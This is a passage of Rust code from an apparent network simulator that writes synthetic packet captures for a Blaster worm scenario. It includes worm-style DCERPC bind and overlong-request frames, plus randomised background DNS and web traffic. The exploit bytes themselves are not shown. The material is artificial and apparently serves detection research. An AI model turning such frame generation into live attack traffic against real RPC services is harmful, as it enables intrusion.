    out.push(t + 1, flow.client_data(&worm::dcerpc_bind(1)))?;
    out.push(
        t + 2,
        flow.client_data(&worm::dcerpc_overlong_request(2, OVERLONG_NAME_CHARS)),
    )?;
    for (k, f) in flow.close().into_iter().enumerate() {
        out.push(t + pause / 2 + k as i64, f)?;
    }
    Ok(())
}

/// Web sessions and DNS lookups between hosts inside the edge's prefix and
/// servers outside, spread over the window at `background_pps`.
fn background(
    out: &mut Out,
    scenario: &BlasterScenario,
    vantage: &Sensor,
    opts: &CaptureOptions,
    start_us: i64,
) -> Result<(), VantageCaptureError> {
    let Some(prefix) = vantage.prefix else {
        return Ok(());
    };
    let (from, to) = (opts.from.as_micros(), opts.to.as_micros());
    background_traffic(
        out,
        scenario.seed,
        prefix,
        (from, to),
        opts.background_pps,
        start_us,
    )
}

/// Web sessions and DNS lookups between hosts inside `prefix` and servers
/// outside, spread over `[from, to)` (µs after the start, at `start_us`)
/// at `pps` frames per second, deterministic from `seed` (stream 0 of
/// [`Purpose::Capture`]).
pub(crate) fn background_traffic(
    out: &mut Out,
    seed: u64,
    prefix: Prefix,
    (from, to): (u64, u64),
    pps: f64,
    start_us: i64,
) -> Result<(), VantageCaptureError> {
    let want = (pps * (to - from) as f64 / 1e6).round() as u64;
    let mut rng = rng::stream(seed, Purpose::Capture, 0);
    // A few servers outside the prefix.
    let servers: Vec<Station> = (0..16)
        .map(|_| {
            loop {
                let a: u32 = rng.random_range(0x0100_0000..0xdf00_0000);
                if !prefix.contains(a) && !wormscope_model::addr::is_private(a) {
                    break Station::new(Ipv4Addr::from(a));
                }
            }
        })
        .collect();
    let mut made = 0u64;
    while made < want {
        let t0 = start_us + rng.random_range(from..to) as i64;
        // Any address of the prefix (the scenario refuses a /0).
        let offset = rng.random_range(0..prefix.size()) as u32;
        let client = Station::new(Ipv4Addr::from(prefix.base() | offset));
        let server = servers[rng.random_range(0..servers.len())];
        let port = rng.random_range(1025..5000u16);
        let before = out.frames.len();
        if rng.random_bool(0.5) {
            let q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01";
            let d = Default::default();
            out.push(t0, udp_frame(&client, &server, d, port, 53, q))?;
            let mut a = q.to_vec();
            a[2] = 0x81;
            a[3] = 0x80;
            a[7] = 1;
            a.extend_from_slice(
                b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\xc0\x00\x02\x0a",
            );
            out.push(t0 + 30_000, udp_frame(&server, &client, d, 53, port, &a))?;
        } else {
            let mut f = TcpFlow::new(client, port, server, 80);
            let mut t = t0;
            for fr in f.handshake() {
                out.push(t, fr)?;
                t += 20_000;
            }
            out.push(
                t,
                f.client_data(b"GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n\r\n"),
            )?;
            let body = vec![b'a'; 1460];
            for _ in 0..rng.random_range(1..6) {
                t += 20_000;
                out.push(t, f.server_data(&body))?;
            }
            t += 20_000;
            out.push(t, f.client_ack())?;
            for fr in f.close() {
                t += 20_000;
                out.push(t, fr)?;
            }
        }
        made += (out.frames.len() - before) as u64;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::DISSECTOR_CLASH;

    #[test]
    fn the_clashing_ports_are_sorted_for_their_binary_search() {
        assert!(DISSECTOR_CLASH.windows(2).all(|w| w[0] < w[1]));
        assert!(DISSECTOR_CLASH.binary_search(&1883).is_ok());
        assert!(DISSECTOR_CLASH.binary_search(&1025).is_err());
    }
}
